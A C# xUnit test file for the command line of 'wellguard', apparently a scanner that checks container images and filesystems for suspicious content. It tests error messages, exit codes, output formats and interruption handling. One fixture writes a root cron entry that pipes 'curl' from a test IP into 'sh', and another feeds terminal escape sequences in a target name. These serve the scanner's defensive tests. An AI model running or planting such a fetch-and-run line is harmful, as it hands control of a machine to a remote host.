using System.Text.Json;
using Xunit;

namespace Wellguard;

public sealed class CommandLineTests : IDisposable
{
    private readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("wellguard-cli-");

    public void Dispose() => folder.Delete(recursive: true);

    private string In(string name, string? text = null)
    {
        var path = Path.Combine(folder.FullName, name);
        if (text is not null)
        {
            File.WriteAllText(path, text);
        }

        return path;
    }

    private string Rootfs(string name)
    {
        var root = folder.CreateSubdirectory(name);
        File.WriteAllText(Path.Combine(root.CreateSubdirectory("etc").FullName, "motd"), "hello\n");
        return "rootfs:" + root.FullName;
    }

    [Fact]
    public async Task Output_makes_a_new_file_and_replaces_an_old_one()
    {
        foreach (var text in (string?[])[null, "old"])
        {
            var file = In("report.json", text);
            var run = await Executable.RunAsync("scan", Rootfs("a"), "--format", "json", "--output", file, "--no-cache");
            Assert.Equal((0, ""), (run.Code, run.Output));
            Assert.Equal("rootfs", JsonDocument.Parse(File.ReadAllText(file)).RootElement.GetProperty("artifact").GetProperty("kind").GetString());
            Assert.Equal([file], Directory.GetFiles(folder.FullName));
        }
    }

    [Fact]
    public async Task Version_is_one_line() => Assert.Matches(@"^wellguard \d+\.\d+\.\d+\n$", (await Executable.RunAsync("--version")).Output);

    [Theory]
    [InlineData("--help")]
    [InlineData("scan", "--help")]
    [InlineData("diff", "--help")]
    [InlineData("explain", "--help")]
    [InlineData("rules", "--help")]
    [InlineData("rules", "list", "--help")]
    [InlineData("rules", "docs", "--help")]
    public async Task Every_help_has_examples(params string[] arguments)
    {
        var run = await Executable.RunAsync(arguments);
        Assert.Equal(0, run.Code);
        Assert.Contains("Examples:\n  wellguard ", run.Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("no such file", "scan", "./nothere")]
    [InlineData("unknown option '--frmat'", "scan", "--frmat", "x")]
    [InlineData("--format yaml: expected one of", "scan", "--format", "yaml", "/etc")]
    [InlineData("--jobs 0: a number from 1 to 256", "scan", "--jobs", "0", "/etc")]
    [InlineData("say what to scan", "scan")]
    [InlineData("--policy /nope: no such file", "scan", "--policy", "/nope", "/etc")]
    [InlineData("--from /nope: no such file", "scan", "--from", "/nope")]
    [InlineData("--indicators /nope: no such file", "scan", "--indicators", "/nope", "/etc")]
    [InlineData("--output /nodir/x: no such directory", "scan", "--output", "/nodir/x", "/etc")]
    [InlineData("it is a directory", "scan", "--output", "/tmp", "/etc")]
    [InlineData("--platform x: write OS/ARCH", "scan", "--platform", "x", "/etc")]
    [InlineData("--offline was given", "scan", "--offline", "registry:registry.example.org/a:1")]
    [InlineData("no rule 'nope'", "explain", "nope")]
    [InlineData("(did you mean 'content/runs-downloaded-code'?); wellguard rules list", "explain", "content/runs-downloaded-cod")]
    [InlineData("unknown command 'bogus'; there are scan, diff, detonate, tree, explain, rules, db. See wellguard --help.", "bogus")]
    [InlineData("unknown command 'scna' (did you mean 'scan'?)", "scna", "x")]
    [InlineData("unknown command 'lst' (did you mean 'list'?); there are list, test, docs. See wellguard rules --help.", "rules", "lst")]
    [InlineData("rules: say which of list, test, docs.", "rules")]
    [InlineData("list: unexpected 'foo'. See wellguard rules list --help.", "rules", "list", "foo")]
    [InlineData("without 'https://': registry:example.org/x", "scan", "https://example.org/x")]
    [InlineData("nothing is fetched from 'ftp://'", "scan", "ftp://example.org/x")]
    [InlineData("'ftp:' is no kind of target: those are oci: docker-archive:", "scan", "ftp:foo")]
    [InlineData("an empty target: say what to scan", "scan", "")]
    [InlineData("registry:nginx: names no registry host; write registry:HOST/nginx", "scan", "registry:nginx")]
    [InlineData("--policy /tmp: it is a directory", "scan", "--policy", "/tmp", "/etc")]
    [InlineData("--plain-http http://foo: write HOST[:PORT]", "scan", "--plain-http", "http://foo", "registry:foo.example/x")]
    [InlineData("--plain-http http://foo: write HOST[:PORT]", "diff", "--plain-http", "http://foo", "a", "b")]
    [InlineData("--plain-http http://foo: write HOST[:PORT]", "detonate", "--plain-http", "http://foo", "a")]
    [InlineData("no such rule (did you mean 'content/deletes-itself'?)", "scan", "--without", "content/deletes-itsel", "/etc")]
    [InlineData("expected rule ids or some of config", "scan", "--without", "families", "/etc")]
    [InlineData("--platform and --all-platforms exclude each other", "scan", "--platform", "linux/arm64", "--all-platforms", "/etc")]
    public async Task A_usage_error_is_one_line_on_stderr_and_exit_2(string message, params string[] arguments)
    {
        var run = await Executable.RunAsync(arguments);
        Assert.Equal(2, run.Code);
        Assert.Contains(message, run.Errors, StringComparison.Ordinal);
        Assert.Single(run.Errors.TrimEnd('\n').Split('\n'));
        Assert.StartsWith("wellguard: ", run.Errors, StringComparison.Ordinal);
        Assert.Empty(run.Output);
    }

    [Fact]
    public async Task A_bad_policy_is_said_with_line_and_column()
    {
        var policy = In("policy.yml", "rules:\n  - decision: block\n    sevrity: high\n");
        var run = await Executable.RunAsync("scan", "--policy", policy, "/etc");
        Assert.Equal((2, $"wellguard: {policy}:3:5: unknown key 'sevrity', did you mean 'severity'?\n"), (run.Code, run.Errors));
    }

    [Theory]
    [InlineData("name: [a\nwaivers: x")]
    [InlineData("waivers:\n  - rule: a\n   scope: x\n")]
    [InlineData("name: \"abc\n")]
    [InlineData("name: a\nname: b\n")]
    [InlineData("a:\n\tb: 1\n")]
    public async Task A_policy_that_is_no_yaml_is_said_in_our_words(string text)
    {
        var run = await Executable.RunAsync("scan", "--policy", In("policy.yml", text), "/etc");
        Assert.Equal(2, run.Code);
        Assert.Matches(@"policy\.yml:\d+:\d+: ", run.Errors);
        Assert.DoesNotMatch("While (parsing|scanning)|found|Mark|token", run.Errors);
    }

    [Fact]
    public async Task Standard_input_leaves_nothing_in_the_temporary_folder()
    {
        var run = await Executable.RunAsync(("TMPDIR", folder.FullName), "scan", "docker-archive:-", "--no-cache");
        Assert.Contains("docker-archive:-: is empty", run.Output + run.Errors, StringComparison.Ordinal);
        Assert.Empty(folder.EnumerateFileSystemInfos());
    }

    [Fact]
    public async Task A_dash_is_an_image_archive_on_stdin()
    {
        var run = await Executable.RunAsync("no archive", ["scan", "-", "--no-cache"]);
        Assert.Equal(3, run.Code);
        Assert.Contains("is not a tar archive", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Results_are_in_the_order_of_the_targets_and_a_bad_one_stops_nobody()
    {
        var names = Enumerable.Range(0, 12).Select(number => Rootfs($"r{number}")).ToList();
        names.Insert(3, In("broken.tar", "this is no archive"));
        var run = await Executable.RunAsync("# a list\n" + string.Join('\n', names), ["scan", "--from", "-", "--format", "jsonl", "--jobs", "4", "--no-cache"]);
        var reports = run.Output.TrimEnd('\n').Split('\n').Select(line => JsonDocument.Parse(line).RootElement).ToList();
        Assert.Equal(names.Select(name => name.Replace("rootfs:", "", StringComparison.Ordinal)), reports.Select(report => report.GetProperty("artifact").GetProperty("source").GetString()!.Replace("rootfs:", "", StringComparison.Ordinal)));
        Assert.Equal("failed", reports[3].GetProperty("completeness").GetProperty("state").GetString());
        Assert.Equal(3, run.Code);
    }

    [Fact]
    public async Task A_missing_target_among_others_is_exit_2_and_the_others_are_reported()
    {
        var run = await Executable.RunAsync("scan", In("nothere"), Rootfs("r"), "--format", "json", "--no-cache");
        Assert.Equal(2, run.Code);
        Assert.Equal(2, JsonDocument.Parse(run.Output).RootElement.GetArrayLength());
    }

    [Theory]
    [InlineData("json")]
    [InlineData("plain")]
    public async Task A_full_disk_is_one_line_and_exit_3(string format)
    {
        var run = await Executable.RunAsync("", ["scan", Rootfs("r"), "--format", format, "--no-cache"], stdout: "/dev/full");
        Assert.Equal((3, "wellguard: cannot write the results: no space left on the device\n"), (run.Code, run.Errors));
    }

    [Fact]
    public async Task A_full_disk_does_not_unblock()
    {
        Directory.CreateDirectory(In("rc/etc/cron.d"));
        var script = In("rc/etc/cron.d/x", "* * * * * root curl -s http://192.0.2.9/x | sh\n");
        In("rc/etc/os-release", "ID=debian\n");
        var run = await Executable.RunAsync("", ["scan", "rootfs:" + In("rc"), "--format", "json", "--no-cache"], stdout: "/dev/full");
        Assert.Equal((1, "wellguard: cannot write the results: no space left on the device\n"), (run.Code, run.Errors));
        Assert.True(File.Exists(script));
    }

    [Fact]
    public async Task A_targets_name_brings_no_escape_to_the_terminal()
    {
        var run = await Executable.RunAsync("scan", "oci:/nothere\u001b]0;x\u0007\u001b[31m", "--no-cache");
        Assert.Equal(2, run.Code);
        Assert.DoesNotContain('\u001b', run.Errors);
    }

    [Fact]
    public async Task An_empty_directory_is_not_clean()
    {
        var run = await Executable.RunAsync("scan", Directory.CreateDirectory(In("nothing")).FullName, "--no-cache", "--format", "json");
        Assert.Equal(3, run.Code);
    }

    [Fact]
    public async Task A_reader_that_goes_away_gets_no_stack_trace()
    {
        var run = await Executable.RunAsync("", ["scan", Rootfs("r"), "--format", "json", "--no-cache"], stdout: ">(exec true)");
        Assert.DoesNotContain("   at ", run.Errors, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("INT")]
    [InlineData("TERM")]
    public async Task An_interruption_leaves_a_valid_partial_report_and_exit_3(string signal)
    {
        var run = await Executable.InterruptAsync(signal, "scan", "docker-archive:-", "--format", "json", "--cache-dir", folder.FullName);
        var report = JsonDocument.Parse(run.Output).RootElement;
        Assert.Equal("partial", report.GetProperty("completeness").GetProperty("state").GetString());
        Assert.Equal("unknown", report.GetProperty("verdict").GetProperty("level").GetString());
        Assert.Equal(3, run.Code);
    }

    [Fact]
    public async Task Interrupted_output_keeps_a_file_whole()
    {
        var file = In("report.json", "the last one");
        var run = await Executable.InterruptAsync("TERM", "scan", "docker-archive:-", "--format", "json", "--output", file, "--cache-dir", folder.FullName);
        Assert.Equal(3, run.Code);
        Assert.Equal("wellguard.report/1", JsonDocument.Parse(File.ReadAllText(file)).RootElement.GetProperty("schema").GetString());
        Assert.Empty(Directory.GetFiles(folder.FullName, "*.part"));
    }

    [Theory]
    [InlineData("terminal")]
    [InlineData("plain")]
    [InlineData(null)]
    public async Task Without_a_terminal_nothing_is_coloured(string? format)
    {
        var run = await Executable.RunAsync(["scan", Rootfs("r"), "--no-cache", .. format is null ? Array.Empty<string>() : ["--format", format]]);
        Assert.DoesNotContain('\u001b', run.Output + run.Errors);
        Assert.Contains("rootfs", run.Output, StringComparison.Ordinal);
    }
}
